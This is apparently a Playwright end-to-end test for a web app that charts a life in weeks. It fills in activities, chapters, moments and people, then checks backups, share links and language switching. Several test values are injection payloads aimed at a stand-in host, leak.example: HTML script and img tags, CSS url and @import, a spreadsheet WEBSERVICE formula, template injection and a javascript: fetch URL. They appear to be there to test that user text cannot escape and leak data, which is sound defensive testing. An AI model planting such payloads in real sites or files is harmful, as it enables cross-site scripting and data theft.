import { readFileSync } from 'node:fs';
import type { Download, Locator, Page } from '@playwright/test';
import type { KindName, LifeEvents } from '../../src/life/life-events.ts';
import { LanguageVisit, readWords } from './languages.ts';
import { life } from './marked-life.ts';
import { expect, type Visitor } from './test.ts';
import { beginToAdd } from './weeks.ts';

const BIRTHDATE = life.date('1957-04-23');
const YEARS = life.number('97.3125');
/** Some try to get out by themselves. */
const ACTIVITIES = [
  life.word('Skiing'),
  life.word('<img src="http://leak.example/?', '">'),
  life.word('");background:url(http://leak.example/', ')'),
  life.word('=WEBSERVICE("http://leak.example/', '")'),
  life.word('{{7*7}}${fetch("//leak.example/', '")}'),
];
const HOURS = life.number('0.3127');

/** The card of the first activity. */
export const firstCard = (visitor: Visitor): Locator => visitor.card(ACTIVITIES[0] ?? '');

export async function fillIn(visitor: Visitor): Promise<void> {
  const { page } = visitor;
  await visitor.button(/^Country/).click();
  await page.getByRole('combobox').fill(life.word('Land of'));
  await expect(page.getByText(/No country matches/)).toBeVisible();
  await page.keyboard.press('Escape');
  await visitor.chooseCountry('Japan');
  await visitor.field('Birthdate').fill(BIRTHDATE);
  await visitor.field('Activity 1 hours per day').fill(life.number('31.2709'));
  await visitor.addActivity(4, '', HOURS);
  await visitor.addActivity(5, '', HOURS);
  for (const [index, name] of ACTIVITIES.entries()) {
    await visitor.field(`Activity ${index + 1} name`).fill(name);
  }
  await visitor.submit();
  await expect(visitor.problems()).toBeFocused();
  await visitor.field('Activity 1 hours per day').fill('8');
  await visitor.submit();
  await visitor.allSections();
  await visitor.enterLifeExpectancy(life.number('9731.25'));
  await visitor.submit();
  await expect(visitor.problems()).toBeFocused();
  await visitor.field('Life expectancy (years)').fill(YEARS);
  await visitor.submit();
  await expect(firstCard(visitor)).toBeVisible();
  await visitor.allSections();
}

/** What the page makes of an event by itself, and what is chosen instead of typed. */
type Untyped = 'id' | 'color' | 'goesOn' | 'livedTogether';
type Typed<Kind extends KindName> = Record<Exclude<keyof LifeEvents[Kind][number], Untyped>, string>;

/** The labels of every field of an event: one that is missing here does not compile, nor does an entry without it. */
const EDITORS = {
  chapters: { name: 'Chapter', labels: { name: 'Name', from: 'From', until: 'Until' } },
  moments: { name: 'Moment', labels: { text: 'A few words', when: 'When' } },
  people: {
    name: 'Person',
    labels: {
      name: 'Name',
      birthYear: 'Year of birth',
      diedIn: 'Died in (optional)',
      daysPerYear: 'Days together a year',
      since: 'Met in',
    },
  },
} as const satisfies { readonly [Kind in KindName]: { name: string; labels: Typed<Kind> } };

/** Opens an editor under the weeks, fills in each of its entries, adds them, and leaves another one unfinished. */
async function addEntries<Kind extends KindName>(page: Page, of: Kind, entries: readonly Typed<Kind>[]) {
  const { name: kind, labels } = EDITORS[of];
  const form = page.getByRole('form', { name: `Add a ${kind.toLowerCase()}` });
  for (const entry of entries) {
    if ((await form.count()) === 0) await beginToAdd(page, kind);
    for (const [field, label] of Object.entries<string>(labels)) {
      const input = form.getByLabel(label, { exact: true });
      if ((await input.count()) === 0)
        await form.getByRole('button', { name: 'Add a year of death' }).click();
      await input.fill(Object(entry)[field]);
    }
    await form.getByRole('button', { name: 'Add', exact: true }).click();
  }
  const [first = ''] = Object.values<string>(labels);
  if ((await form.count()) === 0) await beginToAdd(page, kind);
  await form.getByLabel(first, { exact: true }).fill(life.word(`unfinished ${kind}`));
  await page.keyboard.press('Escape');
  await expect(form).toHaveCount(0);
}

export async function addToWeeks({ page }: Visitor): Promise<void> {
  await addEntries(page, 'chapters', [
    { name: life.word('School of'), from: life.date('1964-09-27'), until: '1976' },
    { name: life.word('</script><script src=//leak.example/'), from: life.word('never, until'), until: '' },
    { name: life.word('Town of'), from: life.date('1988-11-13'), until: life.date('1999-10-29') },
  ]);
  await addEntries(page, 'moments', [
    { text: life.word('Wedding of'), when: life.date('1983-08-24') },
    { text: life.word('javascript:fetch("//leak.example/', '")'), when: '2001' },
    { text: life.word('Lost'), when: life.word('some day of') },
  ]);
  await addEntries(page, 'people', [
    { name: life.word('Maria'), birthYear: '1936', diedIn: '', daysPerYear: '13', since: '1959' },
    {
      name: life.word('@import url(//leak.example/', ')'),
      birthYear: life.word('long ago'),
      diedIn: '2019',
      daysPerYear: '7',
      since: '',
    },
  ]);
}

export async function typeLife(visitor: Visitor): Promise<void> {
  const { page } = visitor;
  await beginToAdd(page, 'Type or paste');
  const dialog = page.getByRole('dialog', { name: 'Type or paste' });
  const box = dialog.getByLabel('One event per line');
  await box.fill(
    `2012 ${life.word('first job at')}\nMum ${life.word('Granny')} 1936\n${life.word('no year')}`,
  );
  await dialog.getByRole('button', { name: /^Add/ }).click();
  await expect(box).toHaveValue(/no year/);
  await page.keyboard.press('Escape');
}

export async function sayWhen(visitor: Visitor): Promise<void> {
  await visitor
    .card(ACTIVITIES[2] ?? '')
    .getByRole('button', { name: /^Set days and ages/ })
    .click();
  const [from, until] = [visitor.field('From age or year'), visitor.field('Until age or year')];
  await from.fill(life.word('since'));
  await until.fill(life.word('until'));
  // They are no ages, so nothing follows them.
  for (const field of [from, until]) await field.fill('');
  await until.press('Escape');
}

/** Opens a file as a backup. @param name its name */
export async function openBackup(visitor: Visitor, name: string, text: string): Promise<void> {
  await visitor.button(/^Backup$/).click();
  const chooser = visitor.page.waitForEvent('filechooser');
  await visitor.button('Open a backup file').click();
  await (await chooser).setFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
}

/** Opens what others send: a link, a damaged link, and a file that is no backup. */
export async function openGifts(visitor: Visitor, link: string): Promise<void> {
  const { page } = visitor;
  await page.goto(link);
  await expect(firstCard(visitor)).toBeVisible();
  await visitor.slider().fill('1040');
  await page.goto('about:blank');
  await page.goto(`./#${life.word('life').replaceAll(' ', '&n=')}`);
  await visitor.listening();
  await openBackup(visitor, `${life.word('notes')}.txt`, life.word('{"not": "'));
  await expect(page.getByText('It’s not a backup file from this page.')).toBeVisible();
}

async function saved(page: Page, press: () => Promise<unknown>): Promise<Download> {
  const waiting = page.waitForEvent('download');
  await press();
  const download = await waiting;
  await download.path();
  return download;
}

/** Saves everything that can be saved. @returns the link to the results, and the text of the backup file */
export async function takeAway(visitor: Visitor): Promise<{ link: string; backup: string }> {
  const { page } = visitor;
  await saved(page, () => visitor.button('Share Results').click());
  await visitor.button('Make a poster').click();
  await page.getByRole('radio', { name: /^Square/ }).check({ force: true });
  await visitor.field('Title (optional)').fill(life.word('Picture of'));
  await visitor.field('Show the birthdate').check();
  await saved(page, () => visitor.button('Download PNG').click());
  await page.keyboard.press('Escape');
  await visitor.button(/^Backup$/).click();
  const backup = await saved(page, () => visitor.button('Save a backup file').click());
  await page.keyboard.press('Escape');
  await visitor.copyLink();
  await expect(page.locator('.copy-link').getByText('Link copied.')).toBeVisible();
  await page.keyboard.press('Escape');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  return { link, backup: readFileSync(await backup.path(), 'utf8') };
}

/** What the page makes of a life by itself, offers to choose from, or only takes as an age. */
const OFFERED = /(^|\.)(version|product|language|country|basis|population|id|known|color|schedule)(\.|$)/;

/** The paths of the texts in a backup of which none is marked. */
export function listUnmarked(backup: string): string[] {
  const isMarked = new Map<string, boolean>();
  const look = (value: unknown, path: readonly string[]): void => {
    if (typeof value === 'object' && value !== null) {
      const isList = Array.isArray(value);
      for (const [key, part] of Object.entries(value)) look(part, isList ? path : [...path, key]);
    } else if (typeof value === 'string') {
      const where = path.join('.');
      isMarked.set(where, isMarked.get(where) || life.marks.some((mark) => value.includes(mark)));
    }
  };
  look(JSON.parse(backup), []);
  return Array.from(isMarked).flatMap(([path, marked]) => (marked || OFFERED.test(path) ? [] : path));
}

export async function lookAround(visitor: Visitor): Promise<void> {
  const { page } = visitor;
  await visitor.slider().fill('520');
  await visitor.openEverything();
  await page.emulateMedia({ media: 'print' });
  await page.emulateMedia({ media: 'screen' });
  await visitor.button('Switch to light theme').click();
  await visitor.seeExample();
  await visitor.leaveExample();
  await expect(firstCard(visitor)).toBeVisible();
  await visitor.button('Remove activity 5').click();
  await visitor.undo().click();
  await expect(visitor.field('Activity 4 name')).toHaveValue(ACTIVITIES[3] ?? '');
}

export async function openView(visitor: Visitor): Promise<void> {
  const { page } = visitor;
  await visitor.button('A view to leave open').click();
  await page.getByRole('link', { name: 'Open the view' }).click();
  await expect(page.locator('.view-line')).toContainText('weeks lived');
  await page.keyboard.press('Escape');
  await visitor.listening();
}

/** To German and back. */
export async function changeLanguage(visitor: Visitor): Promise<void> {
  const { page } = visitor;
  const choose = async (tag: string) => {
    await page.locator('.language-button').click();
    await page.locator(`.language-menu a[lang="${tag}"]`).click();
  };
  await choose('de');
  await new LanguageVisit(page, await readWords('de/')).listening();
  await expect(page.locator('#results')).toBeVisible();
  await choose('en');
  await visitor.listening();
}
